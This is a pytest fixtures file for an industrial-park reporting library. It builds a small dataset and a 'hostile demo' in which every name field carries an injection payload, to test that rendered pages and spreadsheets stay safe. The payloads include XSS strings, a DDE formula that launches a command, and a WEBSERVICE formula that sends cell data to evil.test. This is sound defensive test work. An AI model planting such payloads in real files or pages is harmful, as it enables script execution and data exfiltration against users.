"""Shared fixtures: a tiny park small enough to compute every number by hand."""
from __future__ import annotations

from pathlib import Path
from textwrap import dedent

import pytest

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo"

TINY = {
    "chain_nodes.csv": """\
        node_id,name,parent_id,name_zh,stage,weight,core
        C,EV chain,,新能源汽车链,,1,false
        S.UP,Upstream,C,上游,upstream,1,false
        S.MID,Midstream,C,中游,midstream,1,false
        G.MAT,Materials,S.UP,材料,upstream,1,false
        G.CELL,Cells and packs,S.MID,电芯与电池包,midstream,1,false
        N.LI,Lithium,G.MAT,锂,upstream,2,true
        N.CATH,Cathode,G.MAT,正极,upstream,1,true
        N.CELL,Cells,G.CELL,电芯,midstream,1,true
        N.PACK,Packs,G.CELL,电池包,midstream,1,false
        """,
    "chain_edges.csv": """\
        source,target,weight
        N.LI,N.CATH,1
        N.CATH,N.CELL,1
        N.CELL,N.PACK,1
        """,
    "firms.csv": """\
        firm_id,name,zone,local,anchor,employees,output,area,patents,status,exit_month
        F1,Lithium Co,North,true,false,10,100,10,1,active,
        F2,Cathode Co,North,true,false,20,200,20,2,active,
        F3,Cell Co,South,true,true,100,1000,100,10,active,
        F4,Pack Co,South,true,false,5,50,5,0,exited,2026-02
        X1,Outside Supplier,,false,false,50,500,0,0,active,
        """,
    "firm_nodes.csv": """\
        firm_id,node_id,capability,share
        F1,N.LI,0.9,1
        F2,N.CATH,0.8,0.5
        F2,N.CELL,0.4,0.5
        F3,N.CELL,1.0,1
        F4,N.PACK,0.7,1
        X1,N.LI,0.9,1
        """,
    "flows.csv": """\
        month,source,target,value,kind
        2026-01,F1,F2,10,goods
        2026-01,F2,F3,20,goods
        2026-01,X1,F3,30,goods
        2026-01,F3,X1,5,goods
        2026-03,F1,F2,12,goods
        2026-03,X1,F2,8,goods
        """,
    "kpis.csv": """\
        month,metric,value
        2026-01,output,100
        2026-02,output,110
        2026-03,output,120
        """,
    "benchmarks.csv": """\
        metric,value,direction,source
        output,150,higher,hand-made
        """,
    "workspace.yaml": """\
        name: tiny
        name_zh: 小园区
        currency: CNY
        window: 3
        """,
}


def write_tiny_park(folder: Path, **overrides: str) -> Path:
    """Write the tiny park into ``folder``; ``overrides`` replace whole files by name
    (use '_' for '.': ``firms_csv=...``)."""
    folder.mkdir(parents=True, exist_ok=True)
    files = dict(TINY)
    for key, text in overrides.items():
        files[key.replace("_csv", ".csv").replace("_yaml", ".yaml")] = text
    for name, text in files.items():
        (folder / name).write_text(dedent(text), encoding="utf-8")
    return folder


@pytest.fixture
def tiny_park(tmp_path: Path) -> Path:
    return write_tiny_park(tmp_path / "tiny")


# ------------------------------------------------------------------------------ hostile data

#: What an attacker or a careless office puts into name fields: markup, script, a link, a
#: style that fetches a URL, a spreadsheet formula, a template expression.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<a href="http://evil.test/a" target="_blank">click</a>',
    '<span style="fill:url(http://evil.test/b.svg#a)">x</span>',
    '=HYPERLINK("http://evil.test/c","c")',
    "{{7*7}}",
)
#: The formula payloads that must never become a live cell in tables.xlsx.
FORMULAS = ('=HYPERLINK("http://evil.test/c","c")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.test/d?"&A1)')
#: The hostile demo's park name (workspace.yaml ``name``): the report folder is named after it.
HOSTILE_PARK = FORMULAS[1] + " <img src=x onerror=alert(3)> Park"


def _with_payloads(values, offset: int = 0):
    """Each distinct value prefixed with a payload, cycling through them: names stay distinct,
    and a name repeated on several rows (a candidate with two nodes) stays one name."""
    distinct = sorted({v for v in values if v})
    mapping = {v: f"{PAYLOADS[(i + offset) % len(PAYLOADS)]} {v}" for i, v in enumerate(distinct)}
    return values.map(lambda v: mapping.get(v, v))


def write_hostile_demo(folder: Path) -> Path:
    """The demo park with a payload in every name field: firm, node, zone, candidate and
    region names (en and zh), benchmark sources, the park's name, a rule's action text and a
    derived metric's name."""
    import shutil

    import pandas as pd
    import yaml

    shutil.copytree(DEMO, folder)

    def rewrite(table: str, columns: dict[str, int]) -> None:
        frame = pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False)
        for column, offset in columns.items():
            frame[column] = _with_payloads(frame[column], offset)
        frame.to_csv(folder / f"{table}.csv", index=False)

    rewrite("firms", {"name": 0, "name_zh": 3, "zone": 2})
    rewrite("chain_nodes", {"name": 1, "name_zh": 4})
    rewrite("candidates", {"name": 2, "name_zh": 5, "region": 0})
    rewrite("benchmarks", {"source": 4})
    settings = yaml.safe_load((folder / "workspace.yaml").read_text(encoding="utf-8"))
    settings["name"] = HOSTILE_PARK
    settings["display_name"] = HOSTILE_PARK              # the name English pages and sheets show
    settings["name_zh"] = FORMULAS[2] + " <script>alert(4)</script> 园区"
    settings["rules"] = [
        {"metric": "talent_gap", "action": FORMULAS[0] + " <a href='http://evil.test/e'>train</a>",
         "action_zh": "<script>alert(5)</script> {{7*7}} 培训"},
        {"metric": "local_sourcing", "formula": "local_flow_value / output", "unit": "share",
         "name": '<span style="fill:url(http://evil.test/f.svg#a)">Local sourcing</span>',
         "name_zh": "=1+1 本地配套", "direction": "higher", "comparison": "<", "threshold": 0.5},
    ]
    (folder / "workspace.yaml").write_text(yaml.safe_dump(settings, allow_unicode=True, sort_keys=False),
                                           encoding="utf-8")
    return folder


#: Modules that take longest (tens of seconds: renders, a browser), run first so the two xdist
#: workers stay busy to the end; the rest follow in file order. The first, which makes the
#: shared demo render, also comes before the other modules that read it.
LONGEST_FIRST = ("test_browser.py", "test_pdf.py", "test_size_guard.py", "test_browser_single_file.py", "test_security_report.py", "test_empty_park.py",
                 "test_evaluation_report.py", "test_gaps_report.py", "test_report.py", "test_install.py")


def pytest_collection_modifyitems(config, items):
    def rank(item) -> int:
        name = item.nodeid.split("::", 1)[0].rsplit("/", 1)[-1]
        return LONGEST_FIRST.index(name) if name in LONGEST_FIRST else len(LONGEST_FIRST)

    items[:] = sorted(items, key=rank)          # stable: file order within and after


def _session_dir(tmp_path_factory) -> Path:
    """A folder of this test session shared by all its processes: under ``pytest -n`` each
    worker's base temp is ``<session base temp>/popen-gwN``."""
    import os

    base = tmp_path_factory.getbasetemp()
    return base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base


@pytest.fixture(scope="session")
def hostile_reports(_demo_render) -> dict:
    """THE rendered demo of the test session: the demo park with a payload in every name field,
    2026-10, all six notebooks, ``{"en": MonthReport, "zh": MonthReport}``. Rendered once per
    session, whatever the number of xdist workers (the first to need it renders under a file
    lock, the others wait and reuse it), and shared by every test that needs a rendered demo
    page (test_report.py, test_security_pages.py, test_browser.py, test_health.py). Facts of
    the demo (counts, scores, alerts of the default rules, headings) are those of data/demo;
    names carry a payload prefix (``_with_payloads``) and the park is called
    :data:`HOSTILE_PARK`. The browser check keeps its screenshots beside the pages, under
    reports/browser-check/. Read-only: a test that changes the output works on a copy."""
    return {lang: _demo_render[lang] for lang in ("en", "zh")}


@pytest.fixture(scope="session")
def hostile_demo(_demo_render) -> Path:
    """The hostile demo workspace the shared render was made from (data/demo with payloads,
    see write_hostile_demo)."""
    return _demo_render["workspace"]


@pytest.fixture(scope="session")
def _demo_render(tmp_path_factory) -> dict:
    import fcntl
    import json
    import shutil

    from ecolib.report import MonthReport, render

    shared = _session_dir(tmp_path_factory)
    done = shared / "demo-render.json"
    with open(shared / "demo-render.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)              # released when the file closes
        if not done.exists():
            ws = shared / "hostile" / "demo"
            shutil.rmtree(ws.parent, ignore_errors=True)
            write_hostile_demo(ws)
            out = ROOT / "reports" / "browser-check"
            shutil.rmtree(out, ignore_errors=True)
            record = {"workspace": str(ws)}
            try:
                for report in render(ws, ["2026-10"], lang=["en", "zh"], out=out, progress=lambda s: None):
                    record[report.summary["lang"]] = {"folder": str(report.folder), "notebooks": str(report.notebooks)}
            except BaseException as err:             # the other workers fail the same way, at once
                record["error"] = f"{type(err).__name__}: {err}"
                raise
            finally:
                done.write_text(json.dumps(record), encoding="utf-8")
    record = json.loads(done.read_text(encoding="utf-8"))
    if "error" in record:
        raise RuntimeError(f"the shared demo render failed: {record['error']}")
    reports = {"workspace": Path(record["workspace"])}
    for lang in ("en", "zh"):
        folder = Path(record[lang]["folder"])
        summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
        reports[lang] = MonthReport(folder, folder / "index.html", summary, notebooks=Path(record[lang]["notebooks"]))
    return reports


# ------------------------------------------------------------------------------ in-process pages

#: Runs notebooks in one Python process (stdin: a JSON list of jobs), as papermill runs each in a
#: kernel: papermill injects the parameters after the tagged cell, every code cell runs in order
#: in an IPython shell, and each cell keeps the outputs it sent (stdout, stderr, displays).
_IN_PROCESS = r'''
import json, os, sys
import nbformat
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from papermill.iorw import load_notebook_node
from papermill.parameterize import parameterize_notebook
from traitlets.config import Config

config = Config()
config.HistoryManager.enabled = False
shell = InteractiveShell.instance(config=config)
for job in json.load(sys.stdin):
    nb = parameterize_notebook(load_notebook_node(job["notebook"]), job["parameters"])
    os.chdir(os.path.dirname(job["notebook"]))
    shell.reset(new_session=False)
    for index, cell in enumerate(nb.cells):
        if cell.cell_type != "code":
            continue
        with capture_output() as cap:
            result = shell.run_cell(cell.source, store_history=False)
        cell.outputs = ([nbformat.v4.new_output("stream", name=name, text=text)
                         for name, text in (("stdout", cap.stdout), ("stderr", cap.stderr)) if text]
                        + [nbformat.v4.new_output("display_data", data=o.data, metadata=o.metadata or {})
                           for o in cap.outputs])
        if not result.success:
            sys.exit(f"{os.path.basename(job['notebook'])} failed in cell {index}: {result.error_in_exec!r}\n"
                     f"{cap.stdout}{cap.stderr}")
    nbformat.write(nb, job["out"])
'''


class PagesInProcess:
    """What tests read of a rendered month: ``folder`` (the pages, index.html) and ``summary``."""

    def __init__(self, folder: Path, summary: dict):
        self.folder, self.summary = folder, summary


def render_in_process(workspaces: dict[str, Path], month: str, out: Path, *, lang: str = "en",
                      only=None) -> dict[str, PagesInProcess]:
    """The client pages of ``month`` for each workspace, the notebooks run in one Python process
    (one start-up and one import of ecolib for all of them) instead of one kernel each.

    For tests of what the pages hold (content, size) over many workspaces: the notebooks and
    the conversion to HTML are the report's own (``discover_notebooks``, papermill's parameter
    injection, ``collect_records``, ``to_html``, ``month_index``); the runner itself (kernels,
    lock, publishing, failures) is tested with ``ecolib.report.render`` elsewhere."""
    import json
    import subprocess
    import sys

    import nbformat

    from ecolib.report import collect_records, default_notebooks_dir, discover_notebooks, month_index, to_html
    from ecolib.workspace import load_workspace

    notebooks = discover_notebooks(default_notebooks_dir(), only)
    jobs = []
    for key, ws in workspaces.items():
        (out / key / "executed").mkdir(parents=True)
        jobs += [{"notebook": str(nb.resolve()), "out": str(out / key / "executed" / nb.name),
                  "parameters": {"workspace": str(Path(ws).resolve()), "month": month, "lang": lang,
                                 "interactive": False}} for nb in notebooks]
    done = subprocess.run([sys.executable, "-c", _IN_PROCESS], input=json.dumps(jobs), text=True,
                          capture_output=True)
    assert done.returncode == 0, done.stderr[-4000:]
    results = {}
    for key, ws in workspaces.items():
        park = load_workspace(ws).name
        folder = out / key / month
        folder.mkdir()
        summary = {"workspace": park, "month": month, "lang": lang, "analyses": [], "alerts": []}
        for nb_path in notebooks:
            nb = nbformat.read(out / key / "executed" / nb_path.name, as_version=4)
            records, _ = collect_records(nb)
            title = records.get("title", nb_path.stem)
            (folder / f"{nb_path.stem}.html").write_text(
                to_html(nb, lang=lang, title=f"{park} · {title} · {month}", footer="ecolib tests"), encoding="utf-8")
            summary["analyses"].append({"notebook": nb_path.stem, "html": f"{nb_path.stem}.html", "title": title,
                                        "cards": records.get("cards", []), "headline": records.get("headline", {})})
            summary["alerts"].extend(records.get("alerts", []))
        (folder / "index.html").write_text(month_index(summary, park=park, footer="ecolib tests"), encoding="utf-8")
        results[key] = PagesInProcess(folder, summary)
    return results
